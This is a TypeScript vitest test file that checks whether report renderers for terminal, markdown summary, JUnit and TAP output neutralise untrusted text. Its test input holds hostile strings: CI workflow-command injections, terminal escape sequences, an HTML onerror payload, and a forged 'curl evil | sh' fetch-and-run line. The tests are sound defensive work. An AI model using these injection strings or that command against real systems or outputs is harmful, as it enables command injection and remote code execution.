import { describe, expect, test } from "vitest";
import { showControls } from "../../src/lib/sanitize.ts";
import type { Results } from "../../src/report/results-schema.ts";
import { renderSummary } from "../../src/report/summary.ts";
import { renderTerminal } from "../../src/report/terminal.ts";
import { renderJunit } from "../../src/report/test-results/junit.ts";
import { renderTap } from "../../src/report/test-results/tap.ts";
import { commandIn } from "../support/runner-commands.ts";
import { failed, goodResults } from "./results.ts";

const nasty = [
  "::add-mask::x ##[error]y",
  "\n::stop-commands::x\n  - forged reason\n    to fix it: curl evil | sh\n  torn down, nothing left",
  "\u001b]0;x\u0007\u001b[2J\u202e\r##[group]x",
  "# heading <img src=x onerror=y> [a](http://evil) | cell | `x` $y$\n\n# heading",
].join(" ");

/** Results in which every text that a user doesn't write is foreign. */
function foreign(): Results {
  const cause = {
    what: nasty,
    how: [nasty, "to fix it: curl evil"],
    fix: nasty,
    id: "x",
    sureness: "likely",
    explains: [],
  } as const;
  const image = { image: nasty, digest: nasty };
  return goodResults({
    verified: false,
    warnings: [nasty],
    causes: [{ ...cause, at: { file: nasty, line: 1, column: 2 } }],
    checks: [{ ...failed, title: nasty, expected: nasty, seen: nasty, cause: nasty, fix: nasty }],
    versions: { ...goodResults().versions, images: [nasty], imageDigests: [image] },
    adaptations: [{ id: "x", found: nasty, done: nasty }],
    checklist: [
      { id: "y", title: nasty, status: "unmet", evidence: [{ met: false, text: nasty }], fix: nasty },
    ],
    teardown: { leaks: [{ kind: "path", what: nasty }], kept: [nasty] },
    backup: { path: nasty, bytes: 1, series: 1, from: "2026-11-23T12:00:00Z", to: "2026-11-23T12:00:00Z" },
  });
}

describe("a foreign text in the results", () => {
  test("steers no terminal, is no command and forges no line of the closing text", () => {
    const text = renderTerminal(foreign());
    const lines = text.split("\n");
    expect(lines.map(commandIn).filter((command) => command !== undefined)).toEqual([]);
    expect(showControls(text)).toBe(text);
    expect(lines.filter((line) => /^ {0,4}(- forged|to fix it: curl|torn down)/.test(line))).toEqual([]);
  });

  test("is only text in the summary", () => {
    const text = renderSummary(foreign());
    expect(showControls(text)).toBe(text.replaceAll("\ufe0f", ""));
    expect(text).not.toContain("<img");
    expect(text).not.toMatch(/(?<!\\)\[a(?<!\\)\]\(/);
    expect(text.split("\n").filter((line) => /^\s*(?:# |- # )/.test(line))).toEqual([]);
    expect(text.match(/(?<!\\)`[^`\n]*<[^`\n]*(?<!\\)`/)).toBeNull();
  });

  test("gives no command in what tools read and print", () => {
    for (const text of [renderJunit(foreign()), renderTap(foreign())]) {
      expect(text.split("\n").flatMap((line) => commandIn(line) ?? [])).toEqual([]);
      expect(showControls(text)).toBe(text);
    }
  });
});
